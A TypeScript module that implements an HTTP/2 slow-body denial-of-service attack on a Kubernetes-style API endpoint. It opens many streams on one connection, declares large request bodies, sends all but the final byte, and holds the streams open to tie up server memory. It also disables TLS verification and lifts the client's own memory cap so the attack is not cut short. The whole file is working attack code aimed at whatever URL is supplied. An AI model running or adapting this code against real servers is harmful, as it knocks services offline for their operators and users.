import http2 from 'node:http2';

export interface UnfinishedBodies {
  readonly url: string;
  /** Absent: without credentials. */
  readonly token?: string;
  /** At a time, on one connection. */
  readonly streams: number;
  /** Of each body; the last byte is never sent. */
  readonly bodyBytes: number;
  /** How long the bodies stay unfinished at most, milliseconds. */
  readonly holdMs: number;
}

export interface UnfinishedBodiesResult {
  /** Streams by the status of their answer. */
  readonly answered: ReadonlyMap<number, number>;
  /** Streams that got none. */
  readonly unanswered: number;
  /** Of bodies, as far as the server's windows took them. */
  readonly sentBytes: number;
}

/** What the attacker's own runtime may hold: its default would break off the attack. */
const CLIENT_MEGABYTES_MAX = 4000;
const SLAB = Buffer.alloc(64 * 1024, 'x');
const path = '/api/v1/namespaces/default/configmaps';

/**
 * Opens many streams of one HTTP/2 connection, each with a large body of which all but the end is sent. Resolves when
 * every stream is over, or the time is.
 */
export async function sendUnfinishedBodies(attack: UnfinishedBodies): Promise<UnfinishedBodiesResult> {
  const session = http2.connect(attack.url, { rejectUnauthorized: false, maxSessionMemory: CLIENT_MEGABYTES_MAX });
  session.on('error', () => undefined);
  const answered = new Map<number, number>();
  const open = new Set<http2.ClientHttp2Stream>();
  let sentBytes = 0;
  const over = new Promise<void>((resolve) => {
    for (let i = 0; i < attack.streams; i++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': path,
        'content-type': 'application/json',
        'content-length': attack.bodyBytes,
        ...(attack.token === undefined ? {} : { authorization: `Bearer ${attack.token}` }),
      });
      open.add(stream);
      const ended = (): void => {
        open.delete(stream);
        if (open.size === 0) resolve();
      };
      stream.on('response', ({ ':status': status = 0 }) => void answered.set(status, (answered.get(status) ?? 0) + 1));
      stream.on('error', () => undefined);
      // The runtime does not close every stream whose end it has seen while it was still writing.
      stream.on('aborted', ended);
      stream.on('close', ended);
      stream.resume();
      sendAllBut(1, stream, attack.bodyBytes, (bytes) => {
        sentBytes += bytes;
      });
    }
  });
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    over,
    new Promise<void>((resolve) => {
      timer = setTimeout(resolve, attack.holdMs);
    }),
  ]);
  clearTimeout(timer);
  session.destroy();
  const unanswered = attack.streams - [...answered.values()].reduce((sum, n) => sum + n, 0);
  return { answered, unanswered, sentBytes };
}

function sendAllBut(
  last: number,
  stream: http2.ClientHttp2Stream,
  bytes: number,
  onSent: (bytes: number) => void,
): void {
  let left = bytes - last;
  const next = (): void => {
    if (left <= 0 || !stream.writable) return;
    const slab = SLAB.subarray(0, Math.min(left, SLAB.length));
    left -= slab.length;
    stream.write(slab, (error) => {
      if (error) return;
      onSent(slab.length);
      next();
    });
  };
  next();
}
